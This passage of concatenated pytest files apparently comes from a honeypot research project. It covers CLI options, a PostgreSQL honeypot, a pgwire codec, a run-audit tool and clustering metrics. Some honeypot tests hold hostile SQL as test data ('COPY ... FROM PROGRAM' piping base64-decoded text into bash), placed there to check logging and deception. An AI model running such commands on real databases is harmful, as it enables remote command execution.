             str(tmp_path / "t.json")])
        assert args.telemetry
        assert args.trace_out == tmp_path / "t.json"

    def test_version_flag(self, capsys):
        with pytest.raises(SystemExit) as excinfo:
            build_parser().parse_args(["--version"])
        assert excinfo.value.code == 0
        assert capsys.readouterr().out.startswith("repro ")

    def test_serve_port_base(self):
        args = build_parser().parse_args(["serve", "--port-base", "4000"])
        assert args.port_base == 4000
        assert build_parser().parse_args(["serve"]).port_base is None

    def test_stats_defaults(self):
        args = build_parser().parse_args(["stats"])
        assert args.output == Path("experiment-output")

    def test_chaos_defaults(self):
        args = build_parser().parse_args(["chaos"])
        assert args.plan == "all"
        assert args.seed == 2024
        assert args.scale == 0.0005
        assert not args.list_plans

    def test_serve_limit_options(self):
        args = build_parser().parse_args(
            ["serve", "--idle-timeout", "10", "--max-session-bytes",
             "4096"])
        assert args.idle_timeout == 10.0
        assert args.max_session_bytes == 4096

    def test_run_live_options(self):
        args = build_parser().parse_args(
            ["run", "--telemetry", "--live-port", "9109",
             "--live-interval", "0.25"])
        assert args.live_port == 9109
        assert args.live_interval == 0.25
        defaults = build_parser().parse_args(["run"])
        assert defaults.live_port is None
        assert defaults.live_interval == 0.0

    def test_serve_live_options(self, tmp_path):
        args = build_parser().parse_args(
            ["serve", "--live-port", "0", "--duration", "5",
             "--report-out", str(tmp_path / "snap.json")])
        assert args.live_port == 0
        assert args.duration == 5.0
        assert args.report_out == tmp_path / "snap.json"

    def test_stats_json_flag(self):
        assert build_parser().parse_args(["stats", "--json"]).json
        assert not build_parser().parse_args(["stats"]).json


class TestCommands:
    def test_run_then_report(self, tmp_path, capsys):
        output = tmp_path / "exp"
        code = main(["run", "--seed", "11", "--scale", "0.0002",
                     "--output", str(output), "--dataset"])
        assert code == 0
        captured = capsys.readouterr().out
        assert "low DB:" in captured
        assert "dataset:" in captured
        assert (output / "low.sqlite").exists()
        assert (output / "dataset" / "README.md").exists()

        code = main(["report", "--output", str(output),
                     "--scale", "0.0002"])
        assert code == 0
        captured = capsys.readouterr().out
        assert "Table 5" in captured
        assert "Table 8" in captured
        assert "Russia" in captured
        assert "Kinsing" in captured

    def test_report_missing_run_errors(self, tmp_path, capsys):
        code = main(["report", "--output", str(tmp_path / "nope")])
        assert code == 1
        assert "not found" in capsys.readouterr().err

    def test_report_bad_scale_is_distinct_exit_code(self, tmp_path,
                                                    capsys):
        code = main(["report", "--output", str(tmp_path),
                     "--scale", "-0.5"])
        assert code == 2
        assert "--scale" in capsys.readouterr().err

    def test_report_output_not_a_directory(self, tmp_path, capsys):
        bogus = tmp_path / "file.txt"
        bogus.write_text("hi")
        code = main(["report", "--output", str(bogus)])
        assert code == 2
        assert "not a directory" in capsys.readouterr().err

    def test_run_telemetry_then_stats(self, tmp_path, capsys):
        output = tmp_path / "exp"
        trace = output / "trace.json"
        code = main(["run", "--seed", "5", "--scale", "0.0001",
                     "--output", str(output), "--telemetry",
                     "--trace-out", str(trace)])
        assert code == 0
        run_out = capsys.readouterr().out
        assert "report:" in run_out

        manifest_path = output / "run_report.json"
        manifest = json.loads(manifest_path.read_text(encoding="utf-8"))
        assert manifest["events_total"] > 0
        assert manifest["events_total"] == \
            sum(manifest["events_by_type"].values())
        assert trace.exists()

        code = main(["stats", "--output", str(output)])
        assert code == 0
        stats_out = capsys.readouterr().out
        assert "phases" in stats_out
        assert "replay" in stats_out
        assert f"{manifest['events_total']}" in stats_out

    def test_trace_out_without_telemetry_is_bad_arguments(self, tmp_path,
                                                          capsys):
        code = main(["run", "--output", str(tmp_path), "--trace-out",
                     str(tmp_path / "t.json")])
        assert code == 2
        assert "--telemetry" in capsys.readouterr().err

    def test_live_port_without_telemetry_is_bad_arguments(self, tmp_path,
                                                          capsys):
        code = main(["run", "--output", str(tmp_path),
                     "--live-port", "0"])
        assert code == 2
        assert "--telemetry" in capsys.readouterr().err

    def test_negative_live_interval_is_bad_arguments(self, tmp_path,
                                                     capsys):
        code = main(["run", "--output", str(tmp_path), "--telemetry",
                     "--live-interval", "-1"])
        assert code == 2
        assert "--live-interval" in capsys.readouterr().err

    def test_run_with_live_port_then_stats_json(self, tmp_path, capsys):
        output = tmp_path / "exp"
        code = main(["run", "--seed", "5", "--scale", "0.0001",
                     "--output", str(output), "--telemetry",
                     "--live-port", "0"])
        assert code == 0
        capsys.readouterr()

        code = main(["stats", "--output", str(output), "--json"])
        assert code == 0
        manifest = json.loads(capsys.readouterr().out)
        assert manifest["schema"].startswith("repro.run_report/")
        assert len(manifest["run_id"]) == 12
        assert manifest["config"]["live_port"] == 0
        assert manifest["live"]["port"] > 0
        assert manifest["ops_log"] == "ops.jsonl"
        assert (output / "ops.jsonl").exists()

    def test_stats_json_missing_manifest_still_exit_1(self, tmp_path,
                                                      capsys):
        code = main(["stats", "--output", str(tmp_path), "--json"])
        assert code == 1
        assert "not found" in capsys.readouterr().err

    def test_stats_missing_manifest_errors(self, tmp_path, capsys):
        code = main(["stats", "--output", str(tmp_path)])
        assert code == 1
        assert "not found" in capsys.readouterr().err

    def test_stats_rejects_foreign_json(self, tmp_path, capsys):
        (tmp_path / "run_report.json").write_text('{"x": 1}',
                                                  encoding="utf-8")
        code = main(["stats", "--output", str(tmp_path)])
        assert code == 1
        assert "not a run_report" in capsys.readouterr().err

    def test_chaos_list_plans(self, capsys):
        code = main(["chaos", "--list-plans"])
        assert code == 0
        out = capsys.readouterr().out
        for name in ("none", "wire-corrupt", "sqlite-lock", "all"):
            assert name in out

    def test_chaos_unknown_plan_is_bad_arguments(self, tmp_path, capsys):
        code = main(["chaos", "--plan", "no-such-plan",
                     "--output", str(tmp_path)])
        assert code == 2
        assert "no-such-plan" in capsys.readouterr().err

    def test_chaos_run_conserves_events(self, tmp_path, capsys):
        output = tmp_path / "chaos"
        code = main(["chaos", "--plan", "all", "--scale", "0.0002",
                     "--output", str(output)])
        assert code == 0
        out = capsys.readouterr().out
        assert "conservation: OK" in out
        manifest = json.loads(
            (output / "run_report.json").read_text(encoding="utf-8"))
        section = manifest["resilience"]
        assert section["conservation_ok"] is True
        assert section["events_generated"] == \
            section["events_stored"] + section["events_quarantined"]

    def test_export_dataset_command(self, tmp_path, capsys):
        output = tmp_path / "exp"
        code = main(["export-dataset", "--seed", "11", "--scale",
                     "0.0002", "--output", str(output)])
        assert code == 0
        assert (output / "dataset").is_dir()
        jsonl = list((output / "dataset").glob("*.jsonl"))
        assert jsonl
