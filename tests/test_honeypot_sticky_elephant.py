"""Tests for the Sticky Elephant PostgreSQL honeypot."""

import pytest

from repro.honeypots import StickyElephant
from repro.honeypots.base import MemoryWire
from repro.honeypots.sticky_elephant import (normalize_sql_action,
                                             response_category)
from repro.pipeline.logstore import EventType
from repro.protocols import postgres as pg


def authenticate(wire, user="postgres", password="postgres"):
    wire.send(pg.build_startup_message(user))
    return wire.send(pg.build_password_message(password))


@pytest.fixture
def wire(session_context):
    wire = MemoryWire(StickyElephant("hp"), session_context)
    wire.connect()
    return wire


class TestNormalization:
    @pytest.mark.parametrize("sql,action", [
        ("COPY t FROM PROGRAM 'echo x|base64 -d|bash';",
         "COPY FROM PROGRAM"),
        ("copy t from\nprogram 'x';", "COPY FROM PROGRAM"),
        ("CREATE TABLE abc(x text);", "CREATE TABLE"),
        ("DROP TABLE IF EXISTS abc;", "DROP TABLE"),
        ("ALTER USER postgres WITH NOSUPERUSER;", "ALTER USER"),
        ("SELECT version();", "SELECT VERSION"),
        ("SELECT current_user;", "SELECT CURRENT_USER"),
        ("SELECT 1;", "SELECT"),
        ("SHOW ssl;", "SHOW SSL"),
        ("INSERT INTO t VALUES (1);", "INSERT"),
        ("garbage here", "GARBAGE HERE"),
        ("???", "UNKNOWN SQL"),
    ])
    def test_actions(self, sql, action):
        assert normalize_sql_action(sql) == action

    def test_response_category_is_coarse(self):
        assert response_category("SELECT current_user;") == "SELECT"
        assert response_category("SHOW ssl;") == "SHOW"


class TestDefaultConfig:
    def test_login_always_succeeds(self, wire, log_store):
        reply = authenticate(wire, password="anything")
        types = [m.type_code for m in pg.parse_backend_messages(reply)]
        assert types[0] == b"R"
        assert b"Z" in types
        (login,) = [e for e in log_store
                    if e.event_type == EventType.LOGIN_ATTEMPT.value]
        assert login.password == "anything"

    def test_select_version_returns_row(self, wire):
        authenticate(wire)
        reply = wire.send(pg.build_query("SELECT version();"))
        messages = pg.parse_backend_messages(reply)
        rows = [m for m in messages if m.type_code == b"D"]
        assert rows
        assert b"PostgreSQL" in rows[0].payload

    def test_copy_from_program_reports_success(self, wire):
        authenticate(wire)
        reply = wire.send(pg.build_query(
            "COPY x FROM PROGRAM 'echo pwned|base64 -d|bash';"))
        tags = [m.payload for m in pg.parse_backend_messages(reply)
                if m.type_code == b"C"]
        assert tags == [b"COPY 1\x00"]

    def test_create_drop_alter_sequences(self, wire):
        authenticate(wire)
        for sql, tag in [("CREATE TABLE t(x text);", b"CREATE TABLE"),
                         ("ALTER USER postgres WITH NOSUPERUSER;",
                          b"ALTER ROLE"),
                         ("DROP TABLE t;", b"DROP TABLE")]:
            reply = wire.send(pg.build_query(sql))
            tags = [m.payload.rstrip(b"\x00")
                    for m in pg.parse_backend_messages(reply)
                    if m.type_code == b"C"]
            assert tags == [tag]

    def test_unknown_sql_gets_syntax_error(self, wire):
        authenticate(wire)
        reply = wire.send(pg.build_query("???"))
        errors = [m for m in pg.parse_backend_messages(reply)
                  if m.type_code == b"E"]
        assert errors
        assert pg.parse_error_fields(errors[0].payload)["C"] == "42601"

    def test_query_before_auth_rejected(self, wire):
        wire.send(pg.build_startup_message("u"))
        reply = wire.send(pg.build_query("SELECT 1;"))
        (message,) = pg.parse_backend_messages(reply)
        assert message.type_code == b"E"

    def test_queries_logged_with_raw_sql(self, wire, log_store):
        authenticate(wire)
        wire.send(pg.build_query("SELECT version();"))
        (query,) = [e for e in log_store
                    if e.event_type == EventType.QUERY.value]
        assert query.action == "SELECT VERSION"
        assert query.raw == "SELECT version();"


class TestLoginDisabledConfig:
    def test_every_login_fails(self, session_context, log_store):
        wire = MemoryWire(StickyElephant("hp", config="login_disabled"),
                          session_context)
        wire.connect()
        reply = authenticate(wire)
        (message,) = pg.parse_backend_messages(reply)
        assert message.type_code == b"E"
        assert wire.server_closed
        (login,) = [e for e in log_store
                    if e.event_type == EventType.LOGIN_ATTEMPT.value]
        assert login.config == "login_disabled"


class TestNonPgwireProbes:
    def test_rdp_cookie_logged_malformed(self, session_context,
                                         log_store):
        wire = MemoryWire(StickyElephant("hp"), session_context)
        wire.connect()
        wire.send(b"\x03\x00\x00+&\xe0\x00\x00\x00\x00\x00"
                  b"Cookie: mstshash=Administr\r\n")
        assert wire.server_closed
        (malformed,) = [e for e in log_store
                        if e.event_type == EventType.MALFORMED.value]
        assert "mstshash" in malformed.raw


def test_unknown_config_rejected():
    with pytest.raises(ValueError):
        StickyElephant("hp", config="wide_open")
