"""Tests for the TF vectorizer."""

import numpy as np
import pytest
from hypothesis import given, strategies as st

from repro.core.tf import TfVectorizer


class TestFit:
    def test_vocabulary_sorted_and_unique(self):
        vectorizer = TfVectorizer().fit([["B", "A"], ["A", "C"]])
        assert vectorizer.vocabulary == {"A": 0, "B": 1, "C": 2}

    def test_transform_before_fit_raises(self):
        with pytest.raises(RuntimeError):
            TfVectorizer().transform([["A"]])


class TestTransform:
    def test_frequencies_include_duplicates(self):
        matrix = TfVectorizer().fit_transform([["SET", "SET", "GET"]])
        assert matrix.shape == (1, 2)
        # Sorted vocabulary: GET=0, SET=1.
        np.testing.assert_allclose(matrix[0], [1 / 3, 2 / 3])

    def test_rows_sum_to_one(self):
        documents = [["A", "B"], ["A"], ["C", "C", "C", "B"]]
        matrix = TfVectorizer().fit_transform(documents)
        np.testing.assert_allclose(matrix.sum(axis=1), [1, 1, 1])

    def test_empty_document_is_zero_vector(self):
        matrix = TfVectorizer().fit([["A"]]).transform([[], ["A"]])
        assert matrix[0].sum() == 0
        assert matrix[1].sum() == 1

    def test_unknown_terms_ignored(self):
        vectorizer = TfVectorizer().fit([["A"]])
        matrix = vectorizer.transform([["A", "ZZZ"]])
        np.testing.assert_allclose(matrix, [[0.5]])

    def test_identical_documents_identical_vectors(self):
        documents = [["X", "Y", "X"], ["X", "Y", "X"]]
        matrix = TfVectorizer().fit_transform(documents)
        np.testing.assert_array_equal(matrix[0], matrix[1])

    def test_order_does_not_matter_for_tf(self):
        matrix = TfVectorizer().fit_transform([["A", "B"], ["B", "A"]])
        np.testing.assert_array_equal(matrix[0], matrix[1])


class TestBinaryTransform:
    def test_binary_ignores_counts(self):
        vectorizer = TfVectorizer().fit([["A", "B"]])
        matrix = vectorizer.binary_transform([["A", "A", "A"]])
        np.testing.assert_array_equal(matrix, [[1.0, 0.0]])

    def test_binary_before_fit_raises(self):
        with pytest.raises(RuntimeError):
            TfVectorizer().binary_transform([["A"]])


@given(st.lists(st.lists(st.sampled_from("ABCDE"), min_size=1,
                         max_size=10), min_size=1, max_size=10))
def test_tf_rows_always_sum_to_one(documents):
    matrix = TfVectorizer().fit_transform(documents)
    np.testing.assert_allclose(matrix.sum(axis=1), np.ones(len(documents)),
                               atol=1e-12)
    assert (matrix >= 0).all()
