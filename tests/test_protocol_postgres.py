"""Tests for the pgwire codec."""

import pytest
from hypothesis import given, strategies as st

from repro.protocols import postgres as pg
from repro.protocols.errors import ProtocolError


class TestStartupPhase:
    def test_startup_roundtrip(self):
        stream = pg.PgStream(expect_startup=True)
        data = pg.build_startup_message("alice", "appdb",
                                        application_name="psql")
        (message,) = stream.feed(data)
        assert isinstance(message, pg.StartupMessage)
        assert message.user == "alice"
        assert message.database == "appdb"
        assert message.parameters["application_name"] == "psql"

    def test_database_defaults_to_user(self):
        stream = pg.PgStream(expect_startup=True)
        (message,) = stream.feed(pg.build_startup_message("bob"))
        assert message.database == "bob"

    def test_ssl_request(self):
        stream = pg.PgStream(expect_startup=True)
        (message,) = stream.feed(pg.build_ssl_request())
        assert isinstance(message, pg.SSLRequest)

    def test_ssl_request_then_startup(self):
        stream = pg.PgStream(expect_startup=True)
        stream.feed(pg.build_ssl_request())
        (message,) = stream.feed(pg.build_startup_message("u"))
        assert isinstance(message, pg.StartupMessage)

    def test_partial_startup_buffers(self):
        stream = pg.PgStream(expect_startup=True)
        data = pg.build_startup_message("carol")
        assert stream.feed(data[:5]) == []
        (message,) = stream.feed(data[5:])
        assert message.user == "carol"

    def test_non_pgwire_garbage_raises(self):
        stream = pg.PgStream(expect_startup=True)
        with pytest.raises(ProtocolError):
            stream.feed(b"\x03\x00\x00+&\xe0\x00\x00Cookie: mstshash=x")

    def test_unknown_version_raises(self):
        import struct
        stream = pg.PgStream(expect_startup=True)
        with pytest.raises(ProtocolError):
            stream.feed(struct.pack(">ii", 8, 12345))


class TestTypedMessages:
    def test_password_and_query(self):
        stream = pg.PgStream(expect_startup=True)
        stream.feed(pg.build_startup_message("u"))
        messages = stream.feed(pg.build_password_message("s3cret")
                               + pg.build_query("SELECT 1;")
                               + pg.build_terminate())
        assert [m.type_code for m in messages] == [b"p", b"Q", b"X"]
        assert messages[0].payload == b"s3cret\x00"
        assert messages[1].payload == b"SELECT 1;\x00"


class TestBackendMessages:
    def test_error_response_fields(self):
        raw = pg.build_error_response("FATAL", "28P01", "no way")
        (message,) = pg.parse_backend_messages(raw)
        fields = pg.parse_error_fields(message.payload)
        assert fields == {"S": "FATAL", "C": "28P01", "M": "no way"}

    def test_auth_sequence_message_types(self):
        raw = (pg.build_authentication_ok()
               + pg.build_parameter_status("server_version", "12.7")
               + pg.build_backend_key_data(1, 2)
               + pg.build_ready_for_query())
        types = [m.type_code for m in pg.parse_backend_messages(raw)]
        assert types == [b"R", b"S", b"K", b"Z"]

    def test_data_row_roundtrip(self):
        raw = pg.build_data_row(["hello", None, ""])
        (message,) = pg.parse_backend_messages(raw)
        assert pg.parse_data_row(message.payload) == [b"hello", None, b""]

    def test_row_description_and_command_complete(self):
        raw = (pg.build_row_description(["a", "b"])
               + pg.build_command_complete("SELECT 2"))
        messages = pg.parse_backend_messages(raw)
        assert messages[0].type_code == b"T"
        assert messages[1].payload == b"SELECT 2\x00"

    def test_ready_for_query_validates_status(self):
        with pytest.raises(ValueError):
            pg.build_ready_for_query(b"X")

    def test_truncated_backend_stream_raises(self):
        raw = pg.build_authentication_ok()
        with pytest.raises(ProtocolError):
            pg.parse_backend_messages(raw[:-2])


@given(st.text(alphabet=st.characters(min_codepoint=33, max_codepoint=126),
               min_size=1, max_size=24),
       st.text(alphabet=st.characters(min_codepoint=32, max_codepoint=126),
               max_size=24))
def test_startup_password_roundtrip(user, password):
    stream = pg.PgStream(expect_startup=True)
    (startup,) = stream.feed(pg.build_startup_message(user))
    assert startup.user == user
    (message,) = stream.feed(pg.build_password_message(password))
    assert message.payload.rstrip(b"\x00").decode() == password.rstrip(
        "\x00")


@given(st.lists(st.one_of(st.none(),
                          st.text(max_size=16)), max_size=6))
def test_data_row_roundtrip_property(values):
    raw = pg.build_data_row(values)
    (message,) = pg.parse_backend_messages(raw)
    decoded = pg.parse_data_row(message.payload)
    expected = [None if v is None else v.encode() for v in values]
    assert decoded == expected
