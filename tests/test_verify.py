"""Mutation tests for ``repro verify``.

The audit's value is that every invariant violation maps to a specific
finding code.  These tests pin that map: start from one known-good run,
corrupt one artifact in one way per test, and assert the audit reports
exactly the expected code (plus CLI exit status 1).  A clean run must
stay clean (exit 0), and argument misuse must exit 2.

The differential half gets the same treatment in miniature: a tiny
serial-vs-sharded matrix must produce zero diffs, and the schedule
bisector must localize the one divergence the repo *documents* --
an order-sensitive (unkeyed) fault plan under sharded execution.
"""

import json
import shutil
import sqlite3
from pathlib import Path

import pytest

from repro.deployment import ExperimentConfig, run_experiment
from repro.resilience import faults
from repro.runtime import journal as run_journal
from repro.runtime.journal import journal_path
from repro.verify import (AuditError, audit_run, locate_divergence,
                          run_matrix)

SEED = 2024
SCALE = 0.0001

MANIFEST = "run_report.json"


@pytest.fixture(scope="module")
def good_run(tmp_path_factory):
    """One checkpointed chaos run: every artifact class present --
    databases, raw logs, journal, dead letter, metrics snapshot."""
    out = tmp_path_factory.mktemp("good")
    run_experiment(ExperimentConfig(
        seed=SEED, volume_scale=SCALE, output_dir=out,
        write_raw_logs=True, telemetry=True, checkpoint_interval=0.05,
        fault_plan=faults.load_plan("visit-crash", seed=SEED)))
    return out


@pytest.fixture
def run_copy(good_run, tmp_path):
    target = tmp_path / "run"
    shutil.copytree(good_run, target)
    return target


def codes(output_dir: Path) -> set:
    return {finding.code for finding in audit_run(output_dir).findings}


def cli(*argv) -> int:
    from repro.cli import main

    return main([str(arg) for arg in argv])


def edit_manifest(output_dir: Path, mutate) -> None:
    path = output_dir / MANIFEST
    manifest = json.loads(path.read_text(encoding="utf-8"))
    mutate(manifest)
    path.write_text(json.dumps(manifest), encoding="utf-8")


def execute(db_path: Path, sql: str) -> None:
    connection = sqlite3.connect(db_path)
    try:
        connection.execute(sql)
        connection.commit()
    finally:
        connection.close()


# ---------------------------------------------------------------------------
# The clean run


class TestCleanRun:
    def test_audit_is_clean(self, good_run):
        result = audit_run(good_run)
        assert result.ok
        assert result.findings == []
        assert all(check["status"] == "ok" for check in result.checks)
        # The fixture exercised every artifact class.
        names = {check["name"] for check in result.checks}
        assert {"manifest_schema", "manifest_counts", "conservation",
                "db_rows", "tier_purity", "id_contiguity", "raw_count",
                "raw_order", "quarantine", "journal",
                "truncation"} <= names

    def test_fixture_has_chaos_artifacts(self, good_run):
        manifest = json.loads(
            (good_run / MANIFEST).read_text(encoding="utf-8"))
        assert manifest["resilience"]["quarantined_visits"] > 0
        assert journal_path(good_run).exists()

    def test_cli_exits_zero(self, good_run):
        assert cli("verify", "--output", good_run) == 0

    def test_cli_json_report(self, good_run, capsys):
        assert cli("verify", "--output", good_run, "--json") == 0
        report = json.loads(capsys.readouterr().out)
        assert report["schema"] == "repro.verify_report/1"
        assert report["ok"] is True
        assert report["findings"] == []


# ---------------------------------------------------------------------------
# Argument misuse -> exit 2; missing inputs -> exit 1


class TestCliStatuses:
    def test_missing_run_exits_one(self, tmp_path):
        assert cli("verify", "--output", tmp_path / "nope") == 1

    def test_missing_run_raises_audit_error(self, tmp_path):
        with pytest.raises(AuditError):
            audit_run(tmp_path / "nope")

    def test_matrix_without_differential_exits_two(self, good_run):
        assert cli("verify", "--output", good_run,
                   "--matrix", "thread") == 2

    def test_unknown_matrix_config_exits_two(self, tmp_path):
        assert cli("verify", "--differential", "--matrix", "bogus",
                   "--workdir", tmp_path) == 2

    def test_single_worker_differential_exits_two(self, tmp_path):
        assert cli("verify", "--differential", "--workers", "1",
                   "--workdir", tmp_path) == 2

    def test_non_positive_scale_exits_two(self, tmp_path):
        assert cli("verify", "--differential", "--scale", "0",
                   "--workdir", tmp_path) == 2


# ---------------------------------------------------------------------------
# One corruption, one finding code


class TestManifestMutations:
    def test_truncated_manifest_is_schema_finding(self, run_copy):
        path = run_copy / MANIFEST
        path.write_text(path.read_text(encoding="utf-8")[:40],
                        encoding="utf-8")
        assert "MANIFEST_SCHEMA" in codes(run_copy)

    def test_missing_section_is_schema_finding(self, run_copy):
        edit_manifest(run_copy, lambda m: m.pop("resilience"))
        assert "MANIFEST_SCHEMA" in codes(run_copy)

    def test_desynced_breakdown_is_counts_finding(self, run_copy):
        def bump(manifest):
            key = next(iter(manifest["events_by_type"]))
            manifest["events_by_type"][key] += 1

        edit_manifest(run_copy, bump)
        assert "MANIFEST_COUNTS" in codes(run_copy)

    def test_leaked_event_is_conservation_finding(self, run_copy):
        def leak(manifest):
            manifest["resilience"]["events_generated"] += 1

        edit_manifest(run_copy, leak)
        assert "CONSERVATION" in codes(run_copy)

    def test_inflated_truncation_counter_is_truncation_finding(
            self, run_copy):
        def inflate(manifest):
            manifest["metrics"].setdefault("counters", []).append(
                {"name": "logstore.raw_truncated", "labels": {},
                 "value": 10 ** 6})

        edit_manifest(run_copy, inflate)
        assert "TRUNCATION" in codes(run_copy)


class TestDatabaseMutations:
    def test_deleted_row_is_db_rows_and_contiguity(self, run_copy):
        execute(run_copy / "low.sqlite",
                "DELETE FROM events WHERE id = 2")
        found = codes(run_copy)
        assert "DB_ROWS" in found
        assert "ID_CONTIGUITY" in found

    def test_mistiered_row_is_tier_purity_finding(self, run_copy):
        execute(run_copy / "low.sqlite",
                "UPDATE events SET interaction = 'high' WHERE id = 1")
        assert "TIER_PURITY" in codes(run_copy)

    def test_mutated_run_exits_one(self, run_copy):
        execute(run_copy / "low.sqlite",
                "DELETE FROM events WHERE id = 2")
        assert cli("verify", "--output", run_copy) == 1


class TestRawLogMutations:
    @staticmethod
    def pick_group(run_copy: Path) -> Path:
        for path in sorted((run_copy / "raw-logs").glob("*.jsonl")):
            lines = path.read_text(encoding="utf-8").splitlines()
            if len(lines) >= 2 and lines[0] != lines[1]:
                return path
        raise AssertionError("no multi-line raw-log group")

    def test_dropped_line_is_raw_count_finding(self, run_copy):
        path = self.pick_group(run_copy)
        lines = path.read_text(encoding="utf-8").splitlines()
        path.write_text("\n".join(lines[:-1]) + "\n", encoding="utf-8")
        assert "RAW_COUNT" in codes(run_copy)

    def test_swapped_lines_are_raw_order_finding(self, run_copy):
        path = self.pick_group(run_copy)
        lines = path.read_text(encoding="utf-8").splitlines()
        lines[0], lines[1] = lines[1], lines[0]
        path.write_text("\n".join(lines) + "\n", encoding="utf-8")
        assert "RAW_ORDER" in codes(run_copy)

    def test_half_cut_line_is_raw_order_finding(self, run_copy):
        path = self.pick_group(run_copy)
        lines = path.read_text(encoding="utf-8").splitlines()
        lines[0] = lines[0][:len(lines[0]) // 2]
        path.write_text("\n".join(lines) + "\n", encoding="utf-8")
        assert "RAW_ORDER" in codes(run_copy)


class TestQuarantineMutations:
    def test_dropped_record_is_quarantine_finding(self, run_copy):
        path = run_copy / "quarantine.jsonl"
        lines = path.read_text(encoding="utf-8").splitlines()
        assert lines, "chaos fixture must quarantine at least one visit"
        path.write_text("\n".join(lines[:-1]) + ("\n" if lines[:-1]
                                                 else ""),
                        encoding="utf-8")
        assert "QUARANTINE" in codes(run_copy)

    def test_reordered_records_are_quarantine_finding(self, run_copy):
        path = run_copy / "quarantine.jsonl"
        lines = path.read_text(encoding="utf-8").splitlines()
        if len(lines) < 2:
            pytest.skip("need two quarantined visits to reorder")
        lines[0], lines[-1] = lines[-1], lines[0]
        path.write_text("\n".join(lines) + "\n", encoding="utf-8")
        assert "QUARANTINE" in codes(run_copy)


class TestJournalMutations:
    def test_corrupt_record_is_journal_finding(self, run_copy):
        path = journal_path(run_copy)
        lines = path.read_text(encoding="utf-8").splitlines(True)
        assert len(lines) >= 2
        # Damage a middle record (a torn *tail* would be benign).
        lines[1] = lines[1].replace('"kind"', '"k1nd"', 1)
        path.write_text("".join(lines), encoding="utf-8")
        assert "JOURNAL" in codes(run_copy)

    def test_resealed_digest_mismatch_is_journal_finding(self,
                                                         run_copy):
        path = journal_path(run_copy)
        lines = path.read_text(encoding="utf-8").splitlines(True)
        for index, line in enumerate(lines):
            record = run_journal._unseal(line)
            if record.get("kind") != "complete":
                continue
            digest = record["midhigh"]["digest"]
            record["midhigh"]["digest"] = \
                ("0" if digest[0] != "0" else "1") + digest[1:]
            lines[index] = run_journal._sealed(record)
            break
        else:
            raise AssertionError("journal has no complete record")
        path.write_text("".join(lines), encoding="utf-8")
        assert "JOURNAL" in codes(run_copy)


# ---------------------------------------------------------------------------
# Differential replay


class TestDifferential:
    def test_sharded_thread_matches_serial(self, tmp_path):
        report = run_matrix(tmp_path, seed=SEED, scale=SCALE,
                            workers=2, configs=("thread",))
        assert report.ok
        assert report.diffs == []
        assert report.divergences == []
        assert [c["status"] for c in report.configs] == ["ran", "ran"]

    def test_bisector_localizes_order_sensitive_plan(self):
        # Plan "all" contains unkeyed (order-sensitive) sites, which the
        # repo documents as serial-only stable: sharded execution MUST
        # diverge, and the bisector must name the first bad visit.
        divergence = locate_divergence(
            SEED, SCALE, dict(workers=1),
            dict(workers=4, executor="sharded", pool="thread"),
            fault_plan="all")
        assert divergence is not None
        offset, ip, seq = divergence["key"]
        assert isinstance(offset, float) and isinstance(seq, int)
        assert divergence["index"] >= 0

    def test_keyed_plan_does_not_diverge(self):
        assert locate_divergence(
            SEED, SCALE, dict(workers=1),
            dict(workers=4, executor="sharded", pool="thread"),
            fault_plan="visit-crash") is None
