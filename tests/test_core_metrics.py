"""Tests for the clustering quality metrics."""

import numpy as np
import pytest
from hypothesis import given, settings, strategies as st

from repro.core.metrics import adjusted_rand_index, silhouette_score


class TestSilhouette:
    def test_well_separated_clusters_score_high(self):
        matrix = np.array([[0.0], [0.1], [10.0], [10.1]])
        labels = np.array([0, 0, 1, 1])
        assert silhouette_score(matrix, labels) > 0.9

    def test_bad_clustering_scores_low(self):
        matrix = np.array([[0.0], [0.1], [10.0], [10.1]])
        labels = np.array([0, 1, 0, 1])  # splits the true clusters
        assert silhouette_score(matrix, labels) < 0.1

    def test_matches_sklearn_formula_on_known_case(self):
        # Hand-computed: points 0,1 in cluster A at x=0,1; point 2 in
        # cluster B at x=5 (singleton contributes 0).
        matrix = np.array([[0.0], [1.0], [5.0]])
        labels = np.array([0, 0, 1])
        # s(0) = (5-1)/5 = 0.8 ; s(1) = (4-1)/4 = 0.75 ; s(2) = 0.
        expected = (0.8 + 0.75 + 0.0) / 3
        assert silhouette_score(matrix, labels) == pytest.approx(expected)

    def test_single_cluster_rejected(self):
        with pytest.raises(ValueError):
            silhouette_score(np.zeros((3, 1)), np.zeros(3, dtype=int))

    def test_mismatched_lengths_rejected(self):
        with pytest.raises(ValueError):
            silhouette_score(np.zeros((3, 1)), np.zeros(2, dtype=int))

    def test_scipy_cross_check(self):
        pytest.importorskip("scipy")
        # Cross-check against a direct (slow) reference implementation.
        rng = np.random.default_rng(0)
        matrix = rng.normal(size=(25, 3))
        labels = rng.integers(0, 3, size=25)

        def reference():
            from scipy.spatial.distance import cdist

            distances = cdist(matrix, matrix)
            scores = []
            for index in range(len(matrix)):
                own = np.flatnonzero(labels == labels[index])
                if len(own) == 1:
                    scores.append(0.0)
                    continue
                a = distances[index, own].sum() / (len(own) - 1)
                b = min(distances[index,
                                  np.flatnonzero(labels == other)].mean()
                        for other in np.unique(labels)
                        if other != labels[index])
                scores.append((b - a) / max(a, b))
            return float(np.mean(scores))

        assert silhouette_score(matrix, labels) == pytest.approx(
            reference())


class TestAdjustedRand:
    def test_identical_partitions(self):
        labels = np.array([0, 0, 1, 1, 2])
        assert adjusted_rand_index(labels, labels) == pytest.approx(1.0)

    def test_relabeling_invariant(self):
        a = np.array([0, 0, 1, 1])
        b = np.array([7, 7, 3, 3])
        assert adjusted_rand_index(a, b) == pytest.approx(1.0)

    def test_disagreement_scores_lower(self):
        a = np.array([0, 0, 1, 1])
        b = np.array([0, 1, 0, 1])
        assert adjusted_rand_index(a, b) < 0.5

    def test_independent_partitions_near_zero(self):
        rng = np.random.default_rng(1)
        a = rng.integers(0, 4, size=400)
        b = rng.integers(0, 4, size=400)
        assert abs(adjusted_rand_index(a, b)) < 0.05

    def test_mismatched_lengths_rejected(self):
        with pytest.raises(ValueError):
            adjusted_rand_index(np.zeros(3), np.zeros(4))

    def test_empty_rejected(self):
        with pytest.raises(ValueError):
            adjusted_rand_index(np.array([]), np.array([]))

    @settings(max_examples=30, deadline=None)
    @given(st.lists(st.integers(min_value=0, max_value=4), min_size=2,
                    max_size=40))
    def test_self_agreement_property(self, labels):
        labels = np.array(labels)
        assert adjusted_rand_index(labels, labels) == pytest.approx(1.0)

    @settings(max_examples=30, deadline=None)
    @given(st.lists(st.integers(min_value=0, max_value=3), min_size=2,
                    max_size=30),
           st.lists(st.integers(min_value=0, max_value=3), min_size=2,
                    max_size=30))
